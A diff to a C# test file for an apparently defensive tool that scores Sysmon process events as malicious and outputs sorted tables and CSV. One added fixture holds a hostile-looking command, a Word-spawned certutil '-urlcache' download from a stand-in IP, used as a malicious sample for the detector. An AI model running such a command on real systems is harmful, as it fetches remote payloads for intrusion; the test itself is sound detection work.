@@ -10,6 +10,12 @@ public sealed class ScoreTests : IDisposable
     private static readonly byte[] ProcessEnded =
         """{"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","event_id":"5","computer_name":"ws-0417"}}"""u8.ToArray();
 
+    private static readonly byte[] Ordinary =
+        Telemetry.Record("services.exe", "svchost.exe", @"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule");
+
+    private static readonly byte[] Attack = Telemetry.Record(
+        "winword.exe", "certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt");
+
     private readonly Scratch _folder = new();
 
     [Fact]
@@ -104,10 +110,10 @@ public sealed class ScoreTests : IDisposable
 
         Assert.Equal(
             [
-                new ScoreLine(_folder["events.jsonl"], 1, 0, null, null, null, null, null, null, "skipped: event 5"),
-                new ScoreLine(_folder["events.jsonl"], 2, 0, null, null, null, null, null, null, "not_json: the body"),
+                (_folder["events.jsonl"], 1, 0, null, null, "skipped: event 5"),
+                (_folder["events.jsonl"], 2, 0, null, null, "not_json: the body"),
             ],
-            scores.Take(2));
+            scores.Take(2).Select(s => (s.File, s.Line, s.Record, s.Probability, s.Host, s.Error)));
         Assert.Null(scores[2].Error);
     }
 
@@ -200,6 +206,35 @@ public sealed class ScoreTests : IDisposable
             Assert.NotNull(score.Probability);
             Assert.NotNull(score.Child);
         });
+    }
+
+    [Fact]
+    public async Task A_line_says_where_when_and_by_whom_and_why_if_it_is_malicious()
+    {
+        _folder.Write("two.jsonl", [.. Ordinary, .. "\n"u8, .. Attack]);
+
+        var lines = ScoreLine.Of((await Terminal.RunAsync(_folder, "score", "two.jsonl")).Succeeded());
+
+        Assert.All(lines, line => Assert.NotNull(line.Time));
+        Assert.All(lines, line => Assert.Equal("ws-0417", line.Host![..7]));
+        Assert.Contains("-urlcache", lines[1].CommandLine, StringComparison.Ordinal);
+        Assert.Empty(lines[0].Reasons);
+        Assert.InRange(lines[1].Reasons.Count, 1, 3);
+    }
+
+    [Fact]
+    public async Task Lines_are_sorted_by_a_column_and_written_as_a_table()
+    {
+        _folder.Write("two.jsonl", [.. Ordinary, .. "\n"u8, .. Attack]);
+
+        var sorted = ScoreLine.Of((await Terminal.RunAsync(_folder, "score", "two.jsonl", "--sort", "probability")).Succeeded());
+        var table = (await Terminal.RunAsync(_folder, "score", "two.jsonl", "--csv")).Succeeded().Output.TrimStart('\ufeff');
+
+        Assert.Equal([2, 1], sorted.Select(s => s.Line));
+        var rows = table.Split('\n', StringSplitOptions.RemoveEmptyEntries);
+        Assert.StartsWith("file,line,record,time_utc,host,user,probability", rows[0], StringComparison.Ordinal);
+        Assert.Equal(3, rows.Length);
+        Assert.Contains("yes", rows[2], StringComparison.Ordinal);
     }
 
     public void Dispose() => _folder.Dispose();
